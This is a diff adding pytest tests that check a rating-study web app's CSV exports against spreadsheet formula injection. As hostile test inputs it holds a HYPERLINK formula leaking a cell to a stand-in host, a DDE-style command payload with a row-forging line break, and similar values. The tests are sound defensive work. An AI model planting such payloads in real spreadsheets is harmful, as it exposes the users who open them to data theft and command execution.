@@ -40,3 +40,105 @@ def test_last_answer_of_auto_closing_study_ends_done_with_code(client, session, 
     client.cookies.set("participant", token)
     page = client.get(f"/s/{slug}/done")
     assert page.status_code == 200 and "LAST42" in page.text
+
+
+# ------------------------------------------------------------------ 5: CSV injection
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+FORMULA_START = tuple("=+-@\t\r")
+
+
+def _admin(client, session):
+    from app.accounts.admins import ensure_admin
+    from tests.test_admin import PASSWORD, USER, login
+
+    ensure_admin(session, USER, PASSWORD)
+    session.commit()
+    assert login(client).status_code == 303
+
+
+def _assert_inert(text: str, expect_rows: int | None = None) -> list[list[str]]:
+    """Every cell of the CSV `text` is inert in a spreadsheet, and no line break forges a row."""
+    import csv
+    import io
+
+    # splitlines() breaks at a bare CR too, as a spreadsheet does: a forged row would show here.
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows == list(csv.reader(text.splitlines(keepends=True))) or "\r" not in text
+    for row in rows:
+        for cell in row:
+            if cell[:1] in FORMULA_START:
+                try:
+                    float(cell)
+                except ValueError:
+                    raise AssertionError(f"live formula cell {cell!r}") from None
+    if expect_rows is not None:
+        assert len(rows) == expect_rows, rows
+    return rows
+
+
+def _hostile_pair_set(tmp_path, session):
+    import json
+
+    from app.studies.importer import import_pair_set
+    from tests.conftest import write_pair_set
+
+    folder = write_pair_set(tmp_path / "hostile", 3, seed=7)
+    lines = [json.loads(x) for x in (folder / "manifest.jsonl").read_text().splitlines()]
+    lines[0]["prompt"] = '@SUM(1+1)*cmd|" /C calc"!A0\r\nforged,row,here'
+    lines[1]["prompt"] = "-2+3"
+    (folder / "manifest.jsonl").write_text("\n".join(json.dumps(x) for x in lines) + "\n")
+    ps = import_pair_set(session, folder)
+    session.commit()
+    return ps.id
+
+
+def test_csv_exports_neutralise_hostile_ids_and_text(client, session, study_factory, tmp_path):
+    ps = _hostile_pair_set(tmp_path, session)
+    study = study_factory([ps], pairs_per_participant=3, ratings_per_pair=3, completion_code="CODE1")
+    slug = study.slug
+    session.rollback()
+    for i, pid in enumerate([HOSTILE, "+1-555-0100", "@evil"]):
+        token = join(client, slug, PROLIFIC_PID=pid, SESSION_ID=f"-{i}=cmd", STUDY_ID="x")
+        assert _answer_all(client, token)["done"] is True
+    _admin(client, session)
+    files = {
+        "decisions": client.get(f"/admin/studies/{slug}/participants/decisions.csv"),
+        "codes": client.get(f"/admin/studies/{slug}/participants/completion-codes.csv"),
+        "ratings": client.get(f"/admin/studies/{slug}/export.csv"),
+    }
+    for name, r in files.items():
+        assert r.status_code == 200, (name, r.text)
+    decisions = _assert_inert(files["decisions"].text, 4)
+    assert decisions[1][0] == "'" + HOSTILE.lower() or decisions[1][0] == "'" + HOSTILE
+    _assert_inert(files["codes"].text, 4)
+    ratings = _assert_inert(files["ratings"].text, 1 + 9)
+    header = ratings[0]
+    scores = [int(r[header.index("score")]) for r in ratings[1:]]
+    assert all(-2 <= s <= 2 for s in scores)  # numbers stay numbers
+    prompts = {r[header.index("prompt")] for r in ratings[1:]}
+    assert "'-2+3" in prompts
+    # The report zip and `sfgeval export` write the same neutralised ratings.
+    import io
+    import zipfile
+
+    z = client.get(f"/admin/studies/{slug}/report.zip")
+    if z.status_code == 200:
+        with zipfile.ZipFile(io.BytesIO(z.content)) as zf:
+            for name in zf.namelist():
+                if name.endswith(".csv"):
+                    _assert_inert(zf.read(name).decode("utf-8"))
+    from click.testing import CliRunner
+
+    from app import cli
+
+    out = CliRunner().invoke(cli.main, ["export", slug, "--database-url", str(client.app.state.settings.database_url)])
+    assert out.exit_code == 0, out.output
+    _assert_inert(out.output, 1 + 9)
+
+
+def test_csv_helper_keeps_numbers_and_quotes_line_breaks():
+    from app.store.csvsafe import csv_text
+
+    text = csv_text(["a", "b", "c"], [[-2, "-2", "x\ry"], [1.5, "=1+1", " @x"], [None, True, "\tz"]])
+    assert text.split("\n")[1].startswith("-2,'-2,\"x\ry\"")
+    _assert_inert(text, 4)
